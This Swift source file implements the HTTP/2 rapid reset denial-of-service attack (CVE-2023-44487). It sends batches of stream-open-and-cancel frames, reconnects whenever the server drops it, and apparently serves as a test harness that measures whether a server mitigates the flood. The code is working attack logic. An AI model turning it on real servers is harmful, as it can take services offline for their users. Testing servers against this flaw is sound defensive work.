import Dispatch
import Foundation
import Synchronization

/// HTTP/2 rapid reset (CVE-2023-44487) by hand: connections that open a stream and cancel it at once, in
/// batches, reconnecting whenever the server ends one, until a stream budget is spent or ``stop()``.
final class RapidResetAttack: Sendable {
    /// What the attack saw.
    struct Outcome: Sendable {
        var connections = 0
        /// Connections the server ended (its end of stream, a reset, a refused write) before the attack did.
        var endedByServer = 0
        var streams = 0
        var mostOnOneConnection = 0
    }

    let port: Int
    let path: String
    let streamBudget: Int
    let perConnectionLimit: Int
    private let stopping = Atomic(false)
    private let sent = Atomic(0)
    /// Resumed once the attack has sent `startedAfter` streams (or ended before), so a probe runs during it.
    let started: AsyncStream<Void>
    private let startedContinuation: AsyncStream<Void>.Continuation
    private let startedAfter: Int

    init(port: Int, path: String, streamBudget: Int, perConnectionLimit: Int, startedAfter: Int = 2000) {
        self.port = port
        self.path = path
        self.streamBudget = streamBudget
        self.perConnectionLimit = perConnectionLimit
        self.startedAfter = startedAfter
        (started, startedContinuation) = AsyncStream.makeStream()
    }

    func stop() { stopping.store(true, ordering: .relaxed) }

    /// Runs the attack on the calling thread until the budget is spent or ``stop()``.
    func run() throws -> Outcome {
        defer { startedContinuation.finish() }
        var outcome = Outcome()
        let block = HTTP2Frames.requestBlock(path: path)
        while outcome.streams < streamBudget && !stopping.load(ordering: .relaxed) {
            let connection = try RawConnection(port: port)
            outcome.connections += 1
            let serverEnded = Atomic(false)
            let readerDone = DispatchSemaphore(value: 0)
            Thread {
                _ = connection.drain()
                serverEnded.store(true, ordering: .relaxed)
                readerDone.signal()
            }.start()
            var onThisConnection = 0
            var refused = !connection.send(HTTP2Frames.preface)
            var stream: UInt32 = 1
            while !refused && !serverEnded.load(ordering: .relaxed) && onThisConnection < perConnectionLimit
                && outcome.streams < streamBudget && !stopping.load(ordering: .relaxed)
            {
                var batch: [UInt8] = []
                for _ in 0..<64 {
                    batch += HTTP2Frames.headers(stream: stream, block) + HTTP2Frames.cancel(stream: stream)
                    stream += 2
                }
                if !connection.send(batch) {
                    refused = true
                    break
                }
                onThisConnection += 64
                outcome.streams += 64
                let total = sent.add(64, ordering: .relaxed).newValue
                if total >= startedAfter && total - 64 < startedAfter { startedContinuation.yield() }
            }
            let endedByServer = refused || serverEnded.load(ordering: .relaxed)
            if endedByServer { outcome.endedByServer += 1 }
            connection.shutdown()
            readerDone.wait()
            connection.close()
            outcome.mostOnOneConnection = max(outcome.mostOnOneConnection, onThisConnection)
        }
        return outcome
    }
}
